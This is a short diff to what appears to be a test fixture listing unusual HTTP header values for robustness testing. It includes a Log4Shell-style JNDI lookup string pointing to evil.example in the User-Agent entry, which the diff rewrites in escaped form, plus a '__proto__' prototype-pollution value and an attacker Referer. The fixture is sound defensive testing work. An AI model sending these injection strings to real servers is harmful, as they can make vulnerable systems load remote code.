@@ -70,5 +70,5 @@ export const strangeHeaders: readonly Header[] = [
   ...each('Max-Forwards', '0'),
   ...each('X-Request-Id', '__proto__', 'x'.repeat(2000)),
   ...each('Referer', 'https://evil.example/', '\xff'),
-  ...each('User-Agent', '', '${jndi:ldap://evil.example}', 'x'.repeat(2000)),
+  ...each('User-Agent', '', '$\u007bjndi:ldap://evil.example}', 'x'.repeat(2000)),
 ]
